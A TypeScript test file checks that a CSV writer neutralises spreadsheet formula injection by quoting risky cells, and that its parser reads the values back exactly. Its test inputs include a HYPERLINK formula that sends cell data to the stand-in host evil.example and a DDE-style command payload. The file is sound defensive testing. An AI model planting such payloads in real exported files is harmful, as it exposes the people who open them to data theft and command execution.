import { describe, expect, it } from 'vitest';
import { csvCell, csvLine, csvUnescapeCell } from '../../shared/platform/text/csv-write.ts';
import { parseCsvRecords } from '../../shared/platform/text/csv.ts';

describe('the CSV writer', () => {
  it('prefixes a cell that begins with =, +, -, @, a tab or a CR with a quote', () => {
    expect(csvCell('=HYPERLINK("http://evil.example/?d="&A1,"Click")')).toBe(`"'=HYPERLINK(""http://evil.example/?d=""&A1,""Click"")"`);
    expect(csvCell('+14155550100')).toBe("'+14155550100");
    expect(csvCell("-2+3+cmd|' /C calc'!A0")).toBe("'-2+3+cmd|' /C calc'!A0");
    expect(csvCell('@SUM(A1:A9)')).toBe("'@SUM(A1:A9)");
    expect(csvCell('\t=1+1')).toBe("'\t=1+1");
    expect(csvCell('\r=1+1')).toBe(`"'\r=1+1"`);
    expect(csvCell(-5)).toBe("'-5");
  });

  it('leaves every other cell as it was, quoting as RFC 4180 says', () => {
    expect(csvCell('Ada')).toBe('Ada');
    expect(csvCell('a=b')).toBe('a=b');
    expect(csvCell("'quoted")).toBe("'quoted");
    expect(csvCell('say "hi", then\nbye')).toBe('"say ""hi"", then\nbye"');
    expect(csvCell(undefined)).toBe('');
    expect(csvCell(null)).toBe('');
    expect(csvCell(42)).toBe('42');
    expect(csvCell(false)).toBe('false');
    expect(csvCell({ note: '=x' })).toBe('"{""note"":""=x""}"');
    expect(csvLine(['a', '=b', 3])).toBe("a,'=b,3\r\n");
  });

  it('adds one more quote to a cell that already begins with quotes before a formula character, so reading undoes it exactly', () => {
    expect(csvCell("'=1+1")).toBe("''=1+1");
    expect(csvCell("''+1")).toBe("'''+1");
    expect(csvUnescapeCell("''=1+1")).toBe("'=1+1");
    expect(csvUnescapeCell("'abc")).toBe("'abc");
    expect(csvUnescapeCell("'")).toBe("'");
  });

  it('reads back what it wrote: parseCsvRecords gives every value as it was before the escaping', () => {
    const values = ['=1+1', '+14155550100', '-5', '@x', '\tx', '\rx', "'=1", "''+1", "'abc", "'", 'plain', 'a,b', 'say "hi"\nbye', ''];
    const text = csvLine(['name', '=header']) + values.map((value) => csvLine([value, value])).join('');
    const { header, records } = parseCsvRecords(text, { maxRows: 100, field: 'csv' });
    expect(header).toEqual(['name', '=header']);
    expect(records.map(({ cells }) => cells)).toEqual(values.map((value) => [value, value]));
  });
});
